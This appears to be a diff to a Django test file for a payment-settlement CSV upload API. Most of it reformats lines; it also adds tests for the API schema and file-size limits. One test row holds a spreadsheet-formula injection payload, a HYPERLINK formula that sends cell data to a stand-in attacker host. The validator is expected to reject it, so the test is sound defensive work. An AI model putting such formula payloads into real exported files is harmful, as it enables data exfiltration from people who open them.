@@ -33,7 +33,9 @@ def secret(merchant):
 
 def _post(client, secret, content: bytes, name: str = "settlement.csv", **fields):
     return client.post(
-        API, {"file": SimpleUploadedFile(name, content, content_type="text/csv"), **fields}, HTTP_AUTHORIZATION=f"Bearer {secret}"
+        API,
+        {"file": SimpleUploadedFile(name, content, content_type="text/csv"), **fields},
+        HTTP_AUTHORIZATION=f"Bearer {secret}",
     )
 
 
@@ -44,9 +46,26 @@ def _get(client, secret, path, **params):
 BAD_FILES = [
     ("empty", b"", "file_empty", "The file is empty"),
     ("header_only", b"payment_id,amount,currency,fee,net,status,settled_at\n", "no_rows", "a header but no rows"),
-    ("missing_column", b"payment_id,amount,currency,fee,status,settled_at\npay_x,1.00,usd,0.10,settled,2026-11-20\n", "missing_columns", "lacks the required column net"),
-    ("wrong_delimiter", b"payment_id;amount;currency;fee;net;status;settled_at\npay_x;1.00;usd;0.10;0.90;settled;2026-11-20\n", "wrong_delimiter", "separated by semicolons"),
-    ("not_utf8", "payment_id,amount,currency,fee,net,status,settled_at\npay_ü,1.00,usd,0.10,0.90,settled,2026-11-20\n".encode("latin-1"), "not_utf8", "not UTF-8"),
+    (
+        "missing_column",
+        b"payment_id,amount,currency,fee,status,settled_at\npay_x,1.00,usd,0.10,settled,2026-11-20\n",
+        "missing_columns",
+        "lacks the required column net",
+    ),
+    (
+        "wrong_delimiter",
+        b"payment_id;amount;currency;fee;net;status;settled_at\npay_x;1.00;usd;0.10;0.90;settled;2026-11-20\n",
+        "wrong_delimiter",
+        "separated by semicolons",
+    ),
+    (
+        "not_utf8",
+        "payment_id,amount,currency,fee,net,status,settled_at\npay_ü,1.00,usd,0.10,0.90,settled,2026-11-20\n".encode(
+            "latin-1"
+        ),
+        "not_utf8",
+        "not UTF-8",
+    ),
     ("binary", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary_file", "binary"),
     ("not_csv", b"Dear merchant,\nplease find attached\n", "header_missing", "not a settlement header"),
 ]
@@ -111,15 +130,33 @@ def test_upload_is_202_then_200_for_the_same_file_with_the_settlement_object(cli
     payments = [make_payment(merchant.merchant_id, amount=1000 + n) for n in range(3)]
     content = csv_bytes([line_for(p) for p in payments])
 
-    first = _post(client, secret, content, name="nov-26.csv", period_start="2026-11-01", period_end=datetime.now(UTC).date().isoformat())
+    first = _post(
+        client,
+        secret,
+        content,
+        name="nov-26.csv",
+        period_start="2026-11-01",
+        period_end=datetime.now(UTC).date().isoformat(),
+    )
     again = _post(client, secret, content, name="copy.csv")
 
     assert (first.status_code, again.status_code) == (202, 200)
     body = first.json()
     assert again.json()["id"] == body["id"]
     assert list(body) == [
-        "id", "object", "status", "filename", "sha256", "rows_total", "rows_processed", "period_start",
-        "period_end", "totals", "counts", "created", "completed",
+        "id",
+        "object",
+        "status",
+        "filename",
+        "sha256",
+        "rows_total",
+        "rows_processed",
+        "period_start",
+        "period_end",
+        "totals",
+        "counts",
+        "created",
+        "completed",
     ]
     assert body["id"].startswith("set_") and body["object"] == "settlement" and body["filename"] == "nov-26.csv"
     assert len(body["sha256"]) == 64 and body["period_start"] == "2026-11-01"
@@ -128,13 +165,17 @@ def test_upload_is_202_then_200_for_the_same_file_with_the_settlement_object(cli
     retrieved = _get(client, secret, f"{API}/{body['id']}").json()
     assert retrieved["status"] == "completed" and retrieved["rows_processed"] == 3
     listed = _get(client, secret, API).json()
-    assert listed["object"] == "list" and [s["id"] for s in listed["data"]] == [body["id"]] and listed["has_more"] is False
+    assert (
+        listed["object"] == "list" and [s["id"] for s in listed["data"]] == [body["id"]] and listed["has_more"] is False
+    )
     actions = [e.action for e in AuditEvent.by_entity.query(body["id"])]
     assert {"settlement.upload", "settlement.processing_started", "settlement.processing_finished"} <= set(actions)
 
 
 def test_invalid_period_is_422(client, secret):
-    response = _post(client, secret, csv_bytes([{"payment_id": "pay_x"}]), period_start="2026-11-05", period_end="2026-11-01")
+    response = _post(
+        client, secret, csv_bytes([{"payment_id": "pay_x"}]), period_start="2026-11-05", period_end="2026-11-01"
+    )
 
     assert response.status_code == 422 and response.json()["code"] == "invalid_period"
 
@@ -143,7 +184,10 @@ def test_another_merchants_settlement_is_404(client, merchant, secret):
     other = make_merchant("Other")
     payment = make_payment(other.merchant_id)
     intake = services.settlement_create(
-        merchant_id=other.merchant_id, actor=TEST_ACTOR, file=io.BytesIO(csv_bytes([line_for(payment)])), filename="o.csv"
+        merchant_id=other.merchant_id,
+        actor=TEST_ACTOR,
+        file=io.BytesIO(csv_bytes([line_for(payment)])),
+        filename="o.csv",
     )
     sid = intake.settlement.settlement_id
 
@@ -161,12 +205,20 @@ def _row_problems(merchant):
     rows = [
         (line_for(good), "matched", None),
         ({**line_for(good), "amount": "-12.50"}, "invalid_row", "amount -12.50 is negative"),
-        ({**line_for(good), "amount": "99999999999999999999.00"}, "invalid_row", "amount 99999999999999999999.00 is too large"),
+        (
+            {**line_for(good), "amount": "99999999999999999999.00"},
+            "invalid_row",
+            "amount 99999999999999999999.00 is too large",
+        ),
         ({**line_for(good), "amount": "12.345"}, "invalid_row", "amount 12.345 has more decimals than USD allows (2)"),
         ({**line_for(yen), "amount": "12.5"}, "invalid_row", "amount 12.5 has more decimals than JPY allows (0)"),
         ({**line_for(good), "currency": "XYZ"}, "invalid_row", "currency 'XYZ' is not a supported ISO-4217 currency"),
         ({**line_for(good), "settled_at": future}, "invalid_row", f"settled_at {future} is in the future"),
-        ({**line_for(good), "payment_id": '=HYPERLINK("http://evil.example/?"&A1,"Refund")'}, "invalid_row", "payment_id looks like a spreadsheet formula"),
+        (
+            {**line_for(good), "payment_id": '=HYPERLINK("http://evil.example/?"&A1,"Refund")'},
+            "invalid_row",
+            "payment_id looks like a spreadsheet formula",
+        ),
         ({**line_for(good), "status": "@SUM(1+1)"}, "invalid_row", "status looks like a spreadsheet formula"),
         (line_for(good), "duplicate_line", "already named on line 2"),
         (line_for(yen), "matched", None),
@@ -227,15 +279,26 @@ def test_a_discrepancy_is_resolved_once_with_a_reason_and_an_audit_event(client,
     first = _get(client, secret, f"{API}/{sid}/discrepancies", limit=1).json()["data"][0]
     path = f"{API}/{sid}/discrepancies/{first['id']}/resolve"
 
-    missing_reason = client.post(path, {"reason": " "}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}")
-    resolved = client.post(path, {"reason": "Processor corrected it"}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}")
-    again = client.post(path, {"reason": "twice"}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}")
+    missing_reason = client.post(
+        path, {"reason": " "}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}"
+    )
+    resolved = client.post(
+        path,
+        {"reason": "Processor corrected it"},
+        content_type="application/json",
+        HTTP_AUTHORIZATION=f"Bearer {secret}",
+    )
+    again = client.post(
+        path, {"reason": "twice"}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}"
+    )
 
     assert missing_reason.status_code == 422 and missing_reason.json()["code"] == "reason_missing"
     assert resolved.status_code == 200 and resolved.json()["resolved"] is True
     assert again.status_code == 409 and again.json()["code"] == "already_resolved"
     events = [e for e in AuditEvent.by_entity.query(first["id"]) if e.action == "discrepancy.resolve"]
-    assert len(events) == 1 and events[0].after["reason"] == "Processor corrected it" and events[0].actor_type == "api_key"
+    assert (
+        len(events) == 1 and events[0].after["reason"] == "Processor corrected it" and events[0].actor_type == "api_key"
+    )
 
 
 def test_amounts_become_minor_units_exactly():
@@ -245,6 +308,41 @@ def test_amounts_become_minor_units_exactly():
     assert csvfile.minor_units("2500", currency="jpy", field="amount", minimum=1) == 2500
     assert csvfile.minor_units("1.5", currency="kwd", field="amount", minimum=1) == 1500
     assert csvfile.minor_units("0", currency="usd", field="fee", minimum=0) == 0
-    for value, currency in (("0.00", "usd"), ("1e3", "usd"), ("1,000.00", "usd"), ("1000000.00", "usd"), ("12.5", "jpy")):
+    for value, currency in (
+        ("0.00", "usd"),
+        ("1e3", "usd"),
+        ("1,000.00", "usd"),
+        ("1000000.00", "usd"),
+        ("12.5", "jpy"),
+    ):
         with pytest.raises(csvfile.RowInvalid):
             csvfile.minor_units(value, currency=currency, field="amount", minimum=1)
+
+
+def test_openapi_describes_the_settlement_operations(client):
+    paths = client.get("/api/v1/openapi.json").json()["paths"]
+
+    assert {"202", "200", "422"} <= set(paths["/api/v1/settlements"]["post"]["responses"])
+    assert "/api/v1/settlements/{settlement_id}/discrepancies" in paths
+
+
+def test_the_api_takes_files_over_a_megabyte_and_refuses_over_50_mb_before_reading(client, merchant, secret):
+    payment = make_payment(merchant.merchant_id, amount=2500)
+    note = "an extra column the file may carry " * 60  # ignored, but it makes the file 2 MB
+    rows = [{**line_for(payment), "note": note}] + [
+        {**line_for(payment), "payment_id": f"pay_unknown{n}", "note": note} for n in range(999)
+    ]
+    content = csv_bytes(rows, header=[*HEADER, "note"])
+    assert len(content) > 2 * 1024 * 1024
+
+    accepted = _post(client, secret, content)
+    too_big = client.post(
+        API,
+        data=b"x",
+        content_type="multipart/form-data; boundary=x",
+        CONTENT_LENGTH=str(60 * 1024 * 1024),
+        HTTP_AUTHORIZATION=f"Bearer {secret}",
+    )
+
+    assert accepted.status_code == 202 and accepted.json()["rows_total"] == 1000
+    assert too_big.status_code == 422 and too_big.json()["code"] == "file_too_large"
